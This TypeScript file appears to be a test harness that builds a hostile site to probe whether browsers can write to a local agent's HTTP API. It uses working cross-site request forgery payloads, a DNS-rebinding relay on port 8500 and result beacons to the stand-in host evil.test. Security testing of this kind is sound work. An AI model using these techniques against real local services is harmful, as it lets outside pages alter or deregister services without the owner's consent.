/**
 * A web site that attacks agents through a browser on their host: a page of another site, and one that rebinds its own name
 * to the agent. The same requests go to a recorder, which shows that the browser sends them.
 */
import { createServer, type IncomingMessage, type Server } from 'node:http';
import { connect, createServer as createTcpServer } from 'node:net';
import { KEY } from './attacker.ts';

/** What a page tries on one host: by elements, forms, beacons and fetch, with Referer switched off. */
export const ATTACKS = [
  ...['image', 'script', 'frame', 'redirect', 'fetch-get'], // GET writes
  ...['form', 'beacon', 'fetch-post'],
  ...['fetch-put', 'fetch-json', 'fetch-delete'], // a browser asks before it sends these
] as const;
export type Attack = (typeof ATTACKS)[number];

export interface WriteRequest {
  readonly method: string;
  readonly path: string;
  readonly body: string;
}

/** The request by which each attack would write. `label` tells the hosts apart. */
export function requestOf(attack: Attack, label: string): WriteRequest {
  const name = `${attack}-${label}`;
  if (attack === 'form' || attack === 'beacon' || attack === 'fetch-post')
    return { method: 'POST', path: `/v1/event/fire/${name}`, body: 'a=b' };
  if (attack === 'fetch-put')
    return { method: 'PUT', path: `/v1/agent/service/deregister/${name}`, body: '' };
  if (attack === 'fetch-json')
    return { method: 'PUT', path: '/v1/agent/service/register', body: JSON.stringify({ Name: name }) };
  if (attack === 'fetch-delete')
    return { method: 'DELETE', path: `/v1/operator/keyring?${name}`, body: JSON.stringify({ Key: KEY }) };
  return { method: 'GET', path: `/v1/agent/service/deregister/${name}`, body: '' };
}

/** Runs in the browser, so it knows nothing of this file. `targets`: a URL for each attack. */
const SCRIPT = `
const ended = (element, prepare) => new Promise((resolve) => {
  element.onload = element.onerror = resolve;
  element.referrerPolicy = 'no-referrer';
  prepare(element);
});
const load = (tag, url) => ended(document.createElement(tag), (element) => {
  element.src = url;
  document.body.append(element);
});
const send = (url, options) => fetch(url, { referrerPolicy: 'no-referrer', ...options }).then((r) => r.status, () => 0);
const submit = (url) => {
  const frame = document.createElement('iframe');
  const form = document.createElement('form');
  frame.name = url;
  Object.assign(form, { method: 'post', action: url, target: url, rel: 'noreferrer' });
  form.innerHTML = '<input name=a value=b>';
  document.body.append(frame, form);
  return ended(frame, () => form.submit());
};
const ways = {
  image: (url) => load('img', url),
  script: (url) => load('script', url),
  frame: (url) => load('iframe', url),
  redirect: (url) => load('img', '/to?' + url),
  'fetch-get': (url) => send(url, { mode: 'no-cors' }),
  form: submit,
  beacon: (url) => navigator.sendBeacon(url, 'a=b'),
  'fetch-post': (url) => send(url, { method: 'POST', mode: 'no-cors', body: 'a=b' }),
  'fetch-put': async (url) => {
    await send(url, { method: 'PUT', mode: 'no-cors' });
    return send(url, { method: 'PUT' });
  },
  'fetch-json': (url, body) => send(url, { method: 'PUT', body, headers: { 'content-type': 'application/json' } }),
  'fetch-delete': (url, body) => send(url, { method: 'DELETE', body }),
};
const json = { 'content-type': 'application/json', 'x-agent-request': '1' };
const run = async () => {
  if (rebound) {
    const tries = rebound.map(({ method, path, body }) =>
      send(path, { method, headers: json, ...(method === 'GET' ? {} : { body }) }));
    return Promise.all(tries);
  }
  await Promise.all(targets.map(({ attack, url, body }) => ways[attack](url, body)));
  return [];
};
run().then((statuses) => fetch(home + (rebound ? '/rebound' : '/done'), { method: 'POST', mode: 'no-cors', body: JSON.stringify(statuses) }));
`;

const page = (variables: Readonly<Record<string, unknown>>, more = ''): string =>
  `<!doctype html><meta name=referrer content=no-referrer><body>${more}<script>
${Object.entries(variables)
  .map(([name, value]) => `const ${name} = ${JSON.stringify(value)};`)
  .join('\n')}${SCRIPT}</script>`;

/** One request as a server saw it: `METHOD PATH`, and those of the headers by which an agent tells pages. */
export interface SeenRequest {
  readonly host: string;
  readonly line: string;
  readonly telling: readonly string[];
}

export interface HostileSite {
  /** To be opened in a browser that resolves these names as `resolve` says. */
  readonly url: string;
  readonly resolve: string;
  /** What the recorder saw. */
  readonly seen: readonly SeenRequest[];
  /** When both pages have tried all: the statuses that the rebound page read. */
  readonly statuses: readonly number[] | undefined;
  close(): void;
}

const TELLING = ['origin', 'referer', 'sec-fetch-site'];

const listen = (
  server: { listen(port: number, ip: string, done: () => void): unknown },
  ip: string,
  port: number,
) => new Promise<void>((done) => server.listen(port, ip, done));

async function bodyOf(request: IncomingMessage): Promise<string> {
  let text = '';
  for await (const chunk of request) text += String(chunk);
  return text;
}

/**
 * Serves on `${net}.2` and `${net}.3`, and records on port 8501 of the agent, which is at `${net}.1`. `hosts`: a label for
 * each name of the agent that the page tries.
 */
export async function serveHostileSite(
  net: string,
  hosts: Readonly<Record<string, string>>,
  reboundRequests: readonly WriteRequest[],
): Promise<HostileSite> {
  const seen: SeenRequest[] = [];
  const recorder = createServer((request, response) => {
    const { method, url, headers } = request;
    const telling = TELLING.filter((name) => headers[name] !== undefined);
    seen.push({ host: headers.host ?? '', line: `${method} ${url}`, telling });
    request.resume();
    response.end();
  });

  const reports = new Map<string, readonly number[]>();
  const targets = Object.entries(hosts).flatMap(([label, host]) =>
    [8500, 8501].flatMap((port) =>
      ATTACKS.map((attack) => {
        const { path, body } = requestOf(attack, label);
        return { attack, body, url: `http://${host}:${port}${path}` };
      }),
    ),
  );
  const home = 'http://evil.test:9000';
  const site: Server = createServer(async (request, response) => {
    const { url = '' } = request;
    if (url.startsWith('/to?')) return response.writeHead(302, { location: url.slice(4) }).end();
    if (url === '/done' || url === '/rebound') {
      reports.set(url, JSON.parse(await bodyOf(request)) as number[]);
      return response.end();
    }
    const frame = '<iframe src="http://rebound.test:8500/page"></iframe>';
    return response
      .writeHead(url === '/' ? 200 : 404, { 'content-type': 'text/html' })
      .end(page({ home, targets, rebound: false }, frame));
  });

  // To the browser the name has another address from now on; to the agent it is a connection from this host either way.
  const rebinder = createTcpServer((socket) => {
    socket.on('error', () => undefined);
    socket.once('data', (first) => {
      if (String(first).startsWith('GET /page ')) {
        const html = page({ home, targets: [], rebound: reboundRequests });
        const head = `HTTP/1.1 200 OK\r\ncontent-type: text/html\r\ncontent-length: ${html.length}\r\nconnection: close\r\n\r\n`;
        return void socket.end(head + html);
      }
      const agent = connect(8500, `${net}.1`);
      agent.on('error', () => socket.destroy());
      agent.write(first);
      socket.pipe(agent).pipe(socket);
    });
  });

  await Promise.all([
    listen(recorder, `${net}.1`, 8501),
    listen(site, `${net}.2`, 9000),
    listen(rebinder, `${net}.3`, 8500),
  ]);
  const names = Object.values(hosts).filter((host) => !host.startsWith(net));
  const resolve = [
    ...names.map((name) => `MAP ${name} ${net}.1`),
    ...[`MAP evil.test ${net}.2`, `MAP rebound.test ${net}.3`, `EXCLUDE ${net}.*`, 'MAP * ~NOTFOUND'],
  ];
  const close = (): void => {
    recorder.close();
    site.close();
    rebinder.close();
  };
  return {
    ...{ url: `${home}/`, resolve: resolve.join(', '), seen, close },
    get statuses() {
      return reports.size === 2 ? reports.get('/rebound') : undefined;
    },
  };
}
